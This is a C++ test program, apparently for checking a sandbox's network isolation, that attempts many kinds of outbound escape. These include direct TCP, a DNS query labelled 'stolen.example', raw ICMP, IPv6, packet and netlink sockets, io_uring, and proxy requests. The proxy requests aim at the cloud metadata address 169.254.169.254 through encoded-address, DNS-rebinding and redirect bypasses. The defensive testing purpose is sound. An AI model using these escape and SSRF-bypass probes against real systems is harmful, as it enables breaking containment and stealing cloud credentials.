// A program that tries to get out, in every way it knows; what came of it, a line each: "NAME: errno or ok". It is
// linked statically, and so runs everywhere: as an engine's child, behind the gate's proxy, or free, to show that the
// capture sees it.
#include <arpa/inet.h>
#include <linux/netlink.h>
#include <netinet/in.h>
#include <netinet/ip_icmp.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

namespace {

void say(const char* name, long result) {
  std::printf("%s: %s\n", name, result >= 0 ? "ok" : ::strerrorname_np(errno));
}

sockaddr_in to(const char* address, std::uint16_t port) {
  sockaddr_in at{};
  at.sin_family = AF_INET;
  at.sin_port = htons(port);
  ::inet_pton(AF_INET, address, &at.sin_addr);
  return at;
}

// Waits a second for a connection: what comes of it shows in the capture.
void try_tcp(const char* name, const char* address, std::uint16_t port) {
  const int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
  const sockaddr_in at = to(address, port);
  long result = fd < 0 ? -1 : ::connect(fd, reinterpret_cast<const sockaddr*>(&at), sizeof at);
  if (fd >= 0 && result < 0 && errno == EINPROGRESS) {
    pollfd wait{fd, POLLOUT, 0};
    ::poll(&wait, 1, 1000);
    int error = 0;
    socklen_t size = sizeof error;
    ::getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &size);
    errno = wait.revents == 0 ? ETIMEDOUT : error;
    result = errno == 0 ? 0 : -1;
  }
  say(name, result);
  ::close(fd);
}

void try_dns() {
  const int fd = ::socket(AF_INET, SOCK_DGRAM, 0);
  const sockaddr_in at = to("93.184.216.34", 53);
  const std::string query(
      "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06stolen\x07"
      "example\x00\x00\x01\x00\x01",
      32);
  say("dns",
      fd < 0 ? -1 : ::sendto(fd, query.data(), query.size(), 0, reinterpret_cast<const sockaddr*>(&at), sizeof at));
  ::close(fd);
}

void try_raw() {
  const int fd = ::socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
  icmphdr echo{};
  echo.type = ICMP_ECHO;
  echo.checksum = 0xfff7;
  const sockaddr_in at = to("93.184.216.34", 0);
  say("raw", fd < 0 ? -1 : ::sendto(fd, &echo, sizeof echo, 0, reinterpret_cast<const sockaddr*>(&at), sizeof at));
  ::close(fd);
}

void try_v6() {
  const int fd = ::socket(AF_INET6, SOCK_DGRAM, 0);
  sockaddr_in6 at{};
  at.sin6_family = AF_INET6;
  at.sin6_port = htons(53);
  ::inet_pton(AF_INET6, "2606:2800::1", &at.sin6_addr);
  say("udp6", fd < 0 ? -1 : ::sendto(fd, "x", 1, 0, reinterpret_cast<const sockaddr*>(&at), sizeof at));
  ::close(fd);
}

// Through the proxy of the environment, if there is one.
void try_proxy(const char* name, const std::string& request) {
  const char* proxy = std::getenv("http_proxy");
  if (proxy == nullptr) return;
  const auto port = static_cast<std::uint16_t>(std::atoi(std::strrchr(proxy, ':') + 1));
  const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  const sockaddr_in at = to("127.0.0.1", port);
  char answer[64] = {};
  const bool sent = ::connect(fd, reinterpret_cast<const sockaddr*>(&at), sizeof at) == 0 &&
                    ::send(fd, request.data(), request.size(), MSG_NOSIGNAL) > 0;
  const ssize_t n = sent ? ::recv(fd, answer, 12, MSG_WAITALL) : -1;
  std::printf("%s: %s\n", name, n == 12 ? answer + 9 : "cut");
  ::close(fd);
}

}  // namespace

int main() {
  try_tcp("tcp", "93.184.216.34", 81);
  try_tcp("tcp private", "10.66.0.1", 80);
  try_tcp("tcp metadata", "169.254.169.254", 80);
  try_dns();
  try_raw();
  try_v6();
  say("packet", ::socket(AF_PACKET, SOCK_RAW, 0));
  say("netlink", ::socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE));
  say("io_uring", ::syscall(SYS_io_uring_setup, 1, nullptr));
  for (const char* host :
       {"169.254.169.254:80", "meta.example:80", "inner.example:80", "10.66.0.1:80", "127.0.0.1:80", "localhost:80",
        "[::ffff:169.254.169.254]:80", "2852039166:80", "0xa9fea9fe:80", "unknown.example:80"})
    try_proxy(host, "CONNECT " + std::string(host) + " HTTP/1.1\r\n\r\n");
  try_proxy("hub.example:8080", "CONNECT hub.example:8080 HTTP/1.1\r\n\r\n");
  try_proxy("rebind.example", "GET http://rebind.example/ HTTP/1.1\r\n\r\n");
  try_proxy("rebind.example again", "GET http://rebind.example/ HTTP/1.1\r\n\r\n");
  try_proxy("redirect", "GET http://hub.example/to/169.254.169.254/latest HTTP/1.1\r\n\r\n");
  return 0;
}
